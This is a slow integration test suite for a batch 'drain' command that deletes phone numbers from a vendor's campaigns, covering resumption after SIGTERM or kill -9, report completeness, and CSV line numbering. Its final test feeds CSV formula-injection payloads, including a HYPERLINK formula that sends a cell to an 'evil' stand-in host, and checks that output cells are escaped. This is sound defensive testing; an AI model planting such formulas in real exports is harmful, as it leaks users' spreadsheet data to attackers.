"""``drain`` as the batch user runs it: a real process, stopped halfway and run
again, against the simulator. Nothing is sent twice after a graceful stop, at
most the requests in flight after a kill -9, and the report always ends
covering every line of the file, consistent with the vendor's campaigns."""

from __future__ import annotations

import asyncio
import csv
import os
import signal
import sys
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from redis.asyncio import Redis

from tests.conftest import eventually, make_settings
from tests.fleet import SimProcess, sim_report, write_campaigns
from worker.accounts.status import server_time_ms
from worker.drain.batch import DrainProgress, DrainSpec, import_rows
from worker.drain.report import write_report
from worker.drain.rows import file_tag, numbered_rows
from worker.errors import BadInput
from worker.intake.csv_cells import FORMULA_STARTS, restore_cell
from worker.intake.importer import Rejected
from worker.store.keys import AccountKeys

pytestmark = pytest.mark.slow

CAMPAIGN = "spring_sale"
CONCURRENCY = 4
# The vendor's minute in 2 s; a margin of 5 %: starting and killing Python
# processes on two cores delays the simulator's reading of arrivals.
SIM_OPTIONS = ("--time-scale", "30", "--rate-limit", "100")
RATE_LIMITED = "Max limit exceeded"


@dataclass(frozen=True)
class ListFile:
    path: Path
    campaigns: Path
    in_campaign: frozenset[str]
    rows: int


def write_list(tmp_path: Path) -> ListFile:
    """A list of each kind of row: deletable, not in the campaign, an unknown
    campaign, not a job, and repeats; with a blank line and a two-line cell."""
    held = [f"98760{i:05d}" for i in range(160)]
    absent = [f"95550{i:05d}" for i in range(20)]
    rows: list[list[str]] = [[p, CAMPAIGN, f"n{i}"] for i, p in enumerate(held)]
    rows += [[p, CAMPAIGN, ""] for p in absent]
    rows += [[f"97770{i:05d}", "no_such_campaign", ""] for i in range(10)]
    rows += [["", CAMPAIGN, "empty"], ["98abc", CAMPAIGN, "letters"], ["123", CAMPAIGN, "short"]]
    rows += [rows[i] for i in range(0, 40, 4)]  # 10 repeats of earlier rows
    # Refused (a name is one line), yet it moves every line after it.
    rows[5][2] = "two\nlines"
    path = tmp_path / "list.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["phoneNumber", "campaignName", "name"])
        writer.writerows(rows[:50])
        handle.write("\n")  # a blank line: no row, but it counts as a line
        writer.writerows(rows[50:])
    campaigns = write_campaigns(tmp_path / "campaigns.json", {CAMPAIGN: held})
    return ListFile(path, campaigns, frozenset(held), len(rows))


def drain_env(sim_url: str, **extra: str) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("OZP_", "OZONETEL_")) and k != "REDIS_URL"
    }
    env.update(
        {
            "OZONETEL_BASE_URL": sim_url,
            "OZONETEL_API_KEY": "demo-key",
            "OZONETEL_USERNAME": "demo",
            "OZP_RATE_LIMIT": "100",
            "OZP_RATE_WINDOW_S": "2",
            "OZP_RATE_MARGIN_S": "0.1",
            "OZP_TOKEN_BUDGET_WINDOW_S": "120",
            "OZP_REQUEST_TIMEOUT_S": "3",
            "OZP_VISIBILITY_TIMEOUT_S": "6",
            "OZP_RETRY_BASE_S": "0.1",
            "OZP_RETRY_MAX_S": "1",
            "PYTHONUNBUFFERED": "1",
        }
    )
    env.update(extra)
    return env


async def start_drain(
    listing: ListFile, env: dict[str, str], cwd: Path, log_name: str
) -> asyncio.subprocess.Process:
    log = (cwd / log_name).open("wb")
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "worker",
        "drain",
        str(listing.path),
        "--state-dir",
        str(cwd / "state"),
        "--concurrency",
        str(CONCURRENCY),
        env=env,
        cwd=cwd,
        stdout=log,
        stderr=log,
    )
    log.close()
    return process


async def sent_phones(url: str) -> Counter[str]:
    """Deletes that reached the vendor and were acted on, per phone."""
    report = await sim_report(url)
    return Counter(
        r["phone"]
        for r in report["requests"]
        if r["endpoint"] == "delete" and r["message"] != RATE_LIMITED
    )


def read_report(path: Path) -> dict[int, dict[str, str]]:
    with path.open(newline="") as handle:
        # As written, before the quotes that keep a spreadsheet from running a cell.
        rows = [{k: restore_cell(v) for k, v in row.items()} for row in csv.DictReader(handle)]
    lines = [int(row["line"]) for row in rows]
    assert len(lines) == len(set(lines)), "a line appears twice in the report"
    return {int(row["line"]): row for row in rows}


def expected_outcomes(listing: ListFile) -> dict[int, tuple[str, str]]:
    """Line -> (outcome, reason), from the file and the simulator's campaigns alone."""
    expected: dict[int, tuple[str, str]] = {}
    seen: set[tuple[str, str]] = set()
    for line, row in numbered_rows(listing.path, "t", "", False):
        if isinstance(row, Rejected):
            expected[line] = ("rejected", row.reason)
        elif (row.campaign, row.phone) in seen:
            expected[line] = ("duplicate", "already_queued")
        elif row.campaign != CAMPAIGN:
            expected[line] = ("dead", "invalid_campaign")
        elif row.phone not in listing.in_campaign:
            expected[line] = ("dead", "no_record")
        else:
            expected[line] = ("deleted", "")
        if not isinstance(row, Rejected):
            seen.add((row.campaign, row.phone))
    return expected


def check_report(
    report: dict[int, dict[str, str]], listing: ListFile, sent_twice: Sequence[str] = ()
) -> None:
    expected = expected_outcomes(listing)
    assert len(expected) == listing.rows
    assert sorted(report) == sorted(expected), "the report must hold every line once"
    for line, (outcome, reason) in expected.items():
        got = report[line]
        if got["phone"] in sent_twice:
            # Sent before the kill and again after: the second answer is "No
            # Record Found", which a possibly-sent job reads as already deleted.
            assert got["outcome"] == "already_deleted", got
        else:
            assert (got["outcome"], got["reason"]) == (outcome, reason), got


async def interrupted_then_resumed(
    tmp_path: Path, sig: int, again: bool = False, **env_extra: str
) -> tuple[ListFile, list[int], Counter[str], dict[int, dict[str, str]]]:
    """Drain, stop it with ``sig`` after some requests, drain again (and, with
    ``again``, once more after it finished); the exit codes, what the vendor
    was sent, and the final report."""
    listing = write_list(tmp_path)
    sim = await SimProcess.start(listing.campaigns, *SIM_OPTIONS)
    try:
        env = drain_env(sim.url, **env_extra)
        first = await start_drain(listing, env, tmp_path, "first.log")

        async def some_sent() -> bool:
            return sum((await sent_phones(sim.url)).values()) >= 40

        await eventually(some_sent, timeout_s=40)
        first.send_signal(sig)
        async with asyncio.timeout(30):
            codes = [await first.wait()]
        assert sum((await sent_phones(sim.url)).values()) < 180, "stopped too late to test"
        second = await start_drain(listing, env, tmp_path, "second.log")
        async with asyncio.timeout(60):
            codes.append(await second.wait())
        sent = await sent_phones(sim.url)
        if again:
            third = await start_drain(listing, env, tmp_path, "third.log")
            async with asyncio.timeout(30):
                codes.append(await third.wait())
            assert await sent_phones(sim.url) == sent, "a finished file sends nothing more"
    finally:
        await sim.stop()
    logs = (tmp_path / "second.log").read_text()
    assert codes[1] == 0, logs
    assert f"list.csv: {listing.rows} rows" in logs
    return listing, codes, sent, read_report(tmp_path / "list-report" / "outcomes.csv")


async def test_sigterm_halfway_then_rerun_sends_nothing_twice(tmp_path: Path) -> None:
    listing, codes, sent, report = await interrupted_then_resumed(tmp_path, signal.SIGTERM)
    assert codes[0] == 1, "a graceful stop with work left exits 1"
    assert "run the same command again" in (tmp_path / "first.log").read_text()
    assert max(sent.values()) == 1, [p for p, n in sent.items() if n > 1]
    check_report(report, listing)
    assert (tmp_path / "list-report" / "summary.json").exists()
    with (tmp_path / "list-report" / "rejects.csv").open() as handle:
        rejected = [o for o, _ in expected_outcomes(listing).values() if o == "rejected"]
        assert len(list(csv.reader(handle))) == 1 + len(rejected) == 1 + 4


async def test_kill_9_halfway_resends_at_most_the_requests_in_flight(tmp_path: Path) -> None:
    listing, codes, sent, report = await interrupted_then_resumed(tmp_path, signal.SIGKILL)
    assert codes[0] == -signal.SIGKILL
    twice = [phone for phone, n in sent.items() if n > 1]
    assert max(sent.values()) <= 2
    assert len(twice) <= CONCURRENCY, twice
    check_report(report, listing, sent_twice=twice)
    dead_in_campaign = [
        r for r in report.values() if r["outcome"] == "dead" and r["phone"] in listing.in_campaign
    ]
    assert not dead_in_campaign


async def test_with_redis_url_and_a_finished_file_run_again(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    env = {"REDIS_URL": redis_url, "OZP_KEY_PREFIX": key_prefix}
    listing, codes, sent, report = await interrupted_then_resumed(
        tmp_path, signal.SIGTERM, again=True, **env
    )
    assert codes == [1, 0, 0]
    assert max(sent.values()) == 1
    check_report(report, listing)
    assert not (tmp_path / "state").exists(), "with REDIS_URL, no private Redis"


def test_line_numbers_follow_the_importer_through_blank_and_multiline_rows(
    tmp_path: Path,
) -> None:
    path = tmp_path / "odd.csv"
    path.write_text(
        "phone,campaign,name\n"
        "9876500001,c,a\n"
        "\n"
        '9876500002,c,"two\nlines"\n'
        "bad,c,x\n"
        " , , \n"
        "9876500003,c,x,extra\n"
        "9876500004,c,z\n"
    )
    rows = list(numbered_rows(path, "abc", "", False))
    assert [line for line, _ in rows] == [2, 4, 6, 8, 9]
    # A name may not hold a newline: the two-line row is refused, at the line it starts.
    assert [row.id for _, row in rows if not isinstance(row, Rejected)] == ["abc-2", "abc-9"]
    assert [row.line for _, row in rows if isinstance(row, Rejected)] == [4, 6, 8]
    jsonl = tmp_path / "odd.jsonl"
    jsonl.write_text('{"phone": "9876500001", "campaign": "c"}\n\n[1]\n{"phone": "98765000x"}\n')
    lines = [
        (line, isinstance(row, Rejected)) for line, row in numbered_rows(jsonl, "t", "c", False)
    ]
    assert lines == [(1, False), (3, True), (4, True)]


def test_a_missing_file_is_bad_input(tmp_path: Path) -> None:
    with pytest.raises(BadInput):
        list(numbered_rows(tmp_path / "nope.csv", "t", "", False))


async def test_a_hostile_file_drains_to_a_report_of_every_line_with_no_cell_a_formula(
    redis: Redis, redis_url: str, key_prefix: str, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.csv"
    path.write_bytes(
        b"phoneNumber,campaignName,name\n"
        b'+919845012345,spring,"=HYPERLINK(""http://evil/?""&A1)"\n'
        + "9876500001,spring,Jos\u00e9\n".encode("latin-1")
        + b"9876500002,spring,"
        + b"x" * 1_000_000
        + b"\n"
        b"-2+3+cmd,spring,@SUM(1)\n"
        b"\t12,spring,name\n"
    )
    keys = AccountKeys(key_prefix, "default")
    spec = DrainSpec(path, file_tag(path), keys)
    progress = DrainProgress()
    started_ms = await server_time_ms(redis)

    imported = await import_rows(
        redis, spec, make_settings(redis_url, key_prefix), asyncio.Event(), progress
    )
    summary = await write_report(
        redis,
        keys,
        spec.rows(),
        spec.tag,
        path,
        tmp_path / "report",
        tmp_path / "rej.csv",
        started_ms,
    )

    assert imported
    assert (progress.rows_read, progress.queued, progress.rejected) == (5, 1, 4)
    assert (summary.rows, summary.outcomes["pending"], summary.outcomes["rejected"]) == (5, 1, 4)
    with (tmp_path / "report" / "outcomes.csv").open(newline="", encoding="utf-8") as handle:
        written = list(csv.reader(handle))
    with (tmp_path / "rej.csv").open(newline="", encoding="utf-8") as handle:
        written_rejects = list(csv.reader(handle))
    for cell in (cell for row in written + written_rejects for cell in row):
        assert not cell.startswith(FORMULA_STARTS), cell
    report = read_report(tmp_path / "report" / "outcomes.csv")
    assert [(line, row["outcome"], row["reason"][:15]) for line, row in report.items()] == [
        (2, "pending", ""),
        (3, "rejected", "not UTF-8 text"),
        (4, "rejected", "row longer than"),
        (5, "rejected", "phone number mu"),
        (6, "rejected", "phone number mu"),
    ]
    assert (report[2]["phone"], report[2]["name"]) == (
        "+919845012345",
        '=HYPERLINK("http://evil/?"&A1)',
    )
    assert written[1][1:4] == ["'+919845012345", "spring", '\'=HYPERLINK("http://evil/?"&A1)']
    assert report[5]["message"] == "-2+3+cmd,spring,@SUM(1)"
    assert (report[6]["message"], written[5][6]) == ("\t12,spring,name", "'\t12,spring,name")
    assert [row[:2] for row in written_rejects[1:]] == [
        ["3", "not UTF-8 text"],
        ["4", "row longer than 65536 characters (1000018)"],
        ["5", "phone number must be 5-15 digits with an optional leading '+'"],
        ["6", "phone number must be 5-15 digits with an optional leading '+'"],
    ]
    assert len(written_rejects[2][2]) < 300
